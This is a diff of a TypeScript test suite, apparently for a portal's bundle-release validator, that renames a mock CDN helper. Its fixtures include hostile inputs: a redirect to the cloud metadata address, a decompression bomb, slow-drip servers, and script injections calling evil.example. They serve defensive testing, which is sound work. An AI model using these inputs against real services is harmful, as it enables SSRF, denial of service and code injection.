@@ -22,45 +22,45 @@ const good = systemModule();
 /** A build in a folder of its own, its manifest as it should be unless told otherwise. */
 function build(folder: string, files: Record<string, string>, changes: object = {}, manifest?: string): string {
   const all = { "app.js": good, ...files };
-  for (const [name, text] of Object.entries(all)) cdn.put(`/${folder}/${name}`, text);
-  cdn.put(`/${folder}/manifest.json`, manifest ?? manifestFor("@app/a", "app.js", all, { ...changes }));
+  for (const [name, text] of Object.entries(all)) cdn.serve(`/${folder}/${name}`, text);
+  cdn.serve(`/${folder}/manifest.json`, manifest ?? manifestFor("@app/a", "app.js", all, { ...changes }));
   return `${cdn.origin}/${folder}/app.js`;
 }
 
 const bundles: [name: string, code: string, url: () => string, integrity?: string][] = [
   ["a file that is not there", "missing", () => `${cdn.origin}/nothing.js`],
-  ["a server's failure", "missing", () => cdn.put("/500.js", { body: good, status: 500 })],
+  ["a server's failure", "missing", () => cdn.serve("/500.js", { body: good, status: 500 })],
   [
     "a page of a single-page host in its place",
     "mime",
-    () => cdn.put("/spa.js", { body: "<!doctype html>", headers: { "content-type": "text/html" } }),
+    () => cdn.serve("/spa.js", { body: "<!doctype html>", headers: { "content-type": "text/html" } }),
   ],
   [
     "JavaScript called text/plain",
     "mime",
-    () => cdn.put("/plain.js", { body: good, headers: { "content-type": "text/plain" } }),
+    () => cdn.serve("/plain.js", { body: good, headers: { "content-type": "text/plain" } }),
   ],
   [
     "no CORS header",
     "cors",
-    () => cdn.put("/cors.js", { body: good, headers: { "access-control-allow-origin": undefined } }),
+    () => cdn.serve("/cors.js", { body: good, headers: { "access-control-allow-origin": undefined } }),
   ],
   [
     "CORS for another origin",
     "cors",
-    () => cdn.put("/cors2.js", { body: good, headers: { "access-control-allow-origin": "https://other.example" } }),
+    () => cdn.serve("/cors2.js", { body: good, headers: { "access-control-allow-origin": "https://other.example" } }),
   ],
-  ["other bytes than the hash", "integrity", () => cdn.put("/hash.js", good), `sha384-${"B".repeat(64)}`],
+  ["other bytes than the hash", "integrity", () => cdn.serve("/hash.js", good), `sha384-${"B".repeat(64)}`],
   [
     "a redirect",
     "redirect",
-    () => cdn.put("/redirect.js", { status: 302, headers: { location: "http://169.254.169.254/" } }),
+    () => cdn.serve("/redirect.js", { status: 302, headers: { location: "http://169.254.169.254/" } }),
   ],
   [
     "a hundred megabytes",
     "too_large",
     () =>
-      cdn.put("/huge.js", (_request, response) => {
+      cdn.serve("/huge.js", (_request, response) => {
         response.writeHead(200, { "content-type": "text/javascript", "access-control-allow-origin": "*" });
         const more = () => {
           while (response.writable && response.write(" ".repeat(65_536)));
@@ -73,29 +73,32 @@ const bundles: [name: string, code: string, url: () => string, integrity?: strin
     "a small file that unpacks to a hundred megabytes",
     "too_large",
     () =>
-      cdn.put("/bomb.js", { body: gzipSync(Buffer.alloc(100_000_000, " ")), headers: { "content-encoding": "gzip" } }),
+      cdn.serve("/bomb.js", {
+        body: gzipSync(Buffer.alloc(100_000_000, " ")),
+        headers: { "content-encoding": "gzip" },
+      }),
   ],
   [
     "a compression that nobody knows",
     "encoding",
-    () => cdn.put("/zip.js", { body: good, headers: { "content-encoding": "lzma" } }),
+    () => cdn.serve("/zip.js", { body: good, headers: { "content-encoding": "lzma" } }),
   ],
   [
     "one byte a second",
     "too_slow",
     () =>
-      cdn.put("/slow.js", (_request, response) => {
+      cdn.serve("/slow.js", (_request, response) => {
         response.writeHead(200, { "content-type": "text/javascript", "access-control-allow-origin": "*" });
         const timer = setInterval(() => response.write(" "), 1_000);
         response.on("close", () => clearInterval(timer));
       }),
   ],
-  ["a server that never answers", "too_slow", () => cdn.put("/silent.js", () => {})],
+  ["a server that never answers", "too_slow", () => cdn.serve("/silent.js", () => {})],
   [
     "an answer that breaks off",
     "unreachable",
     () =>
-      cdn.put("/cut.js", (request, response) => {
+      cdn.serve("/cut.js", (request, response) => {
         response.writeHead(200, {
           "content-type": "text/javascript",
           "access-control-allow-origin": "*",
@@ -107,21 +110,21 @@ const bundles: [name: string, code: string, url: () => string, integrity?: strin
   ["a port where nobody listens", "unreachable", () => "http://127.0.0.1:1/x.js"],
   ["a host that has no address", "unreachable", () => "https://no-such-host.invalid/x.js"],
   ["an internal address", "internal_address", () => "https://10.1.2.3/x.js"],
-  ["text that does not parse", "syntax", () => cdn.put("/syntax.js", `${good.slice(0, 40)}<<<`)],
-  ["a page called JavaScript", "syntax", () => cdn.put("/html.js", "<!doctype html><p>Not found</p>")],
-  ["brackets a hundred thousand deep", "syntax", () => cdn.put("/deep.js", "(".repeat(100_000))],
-  ["an ES module", "format", () => cdn.put("/esm.js", "export const mount = () => {};")],
-  ["a script of another format", "format", () => cdn.put("/umd.js", "(function(r){r.App={mount(){}}})(self);")],
-  ["an empty file", "format", () => cdn.put("/empty.js", "")],
-  ["code beside the registration", "format", () => cdn.put("/beside.js", `fetch("//evil.example"); ${good}`)],
+  ["text that does not parse", "syntax", () => cdn.serve("/syntax.js", `${good.slice(0, 40)}<<<`)],
+  ["a page called JavaScript", "syntax", () => cdn.serve("/html.js", "<!doctype html><p>Not found</p>")],
+  ["brackets a hundred thousand deep", "syntax", () => cdn.serve("/deep.js", "(".repeat(100_000))],
+  ["an ES module", "format", () => cdn.serve("/esm.js", "export const mount = () => {};")],
+  ["a script of another format", "format", () => cdn.serve("/umd.js", "(function(r){r.App={mount(){}}})(self);")],
+  ["an empty file", "format", () => cdn.serve("/empty.js", "")],
+  ["code beside the registration", "format", () => cdn.serve("/beside.js", `fetch("//evil.example"); ${good}`)],
   [
     "a registration under the portal's name",
     "format_named",
-    () => cdn.put("/named.js", good.replace("System.register(", 'System.register("@portico/navbar-mf",')),
+    () => cdn.serve("/named.js", good.replace("System.register(", 'System.register("@portico/navbar-mf",')),
   ],
-  ["no lifecycles", "lifecycles", () => cdn.put("/library.js", systemModule([], "", ["Button"]))],
-  ["no unmount", "lifecycles", () => cdn.put("/mount.js", systemModule([], "", ["bootstrap", "mount"]))],
-  ["an import that nobody offers", "import_unresolved", () => cdn.put("/import.js", systemModule(["preact"]))],
+  ["no lifecycles", "lifecycles", () => cdn.serve("/library.js", systemModule([], "", ["Button"]))],
+  ["no unmount", "lifecycles", () => cdn.serve("/mount.js", systemModule([], "", ["bootstrap", "mount"]))],
+  ["an import that nobody offers", "import_unresolved", () => cdn.serve("/import.js", systemModule(["preact"]))],
   ["a version that is not the portal's", "shared_version", () => build("range", {}, { shared: { react: "^18.0.0" } })],
   ["a manifest that is none", "manifest", () => build("garbage", {}, {}, '{"modules": 1, "files": {}}')],
   ["a manifest that was cut off", "manifest", () => build("cut", {}, {}, '{"package": "p", "modules": {')],
@@ -135,7 +138,7 @@ const bundles: [name: string, code: string, url: () => string, integrity?: strin
     "chunk",
     () => build("mixed", { "late.js": "y" }, {}, manifestFor("@app/a", "app.js", { "app.js": good, "late.js": "x" })),
   ],
-  ["a chunk of another origin", "chunk", () => cdn.put("/far.js", systemModule(["https://evil.example/x.js"]))],
+  ["a chunk of another origin", "chunk", () => cdn.serve("/far.js", systemModule(["https://evil.example/x.js"]))],
   [
     "strings that are no texts",
     "strings",
@@ -190,12 +193,12 @@ it("lets the same bundles pass once they are mended", async () => {
   const set = {
     "@app/a": { url: build("good", chunked, { locales: { pt: "pt.json" }, shared: { react: ">=19" } }) },
     "@app/b": {
-      url: cdn.put("/own-cors.js", {
+      url: cdn.serve("/own-cors.js", {
         body: systemModule(["react"]),
         headers: { "access-control-allow-origin": "http://acme.localhost:9000" },
       }),
     },
-    "@app/c": { url: cdn.put("/packed.js", { body: gzipSync(good), headers: { "content-encoding": "gzip" } }) },
+    "@app/c": { url: cdn.serve("/packed.js", { body: gzipSync(good), headers: { "content-encoding": "gzip" } }) },
   };
   const body = { environment: "development", scope: "acme", changes: { set }, reason: "mended" };
   const answer = await call("POST", "/releases", body, { "if-match": '"0"' });
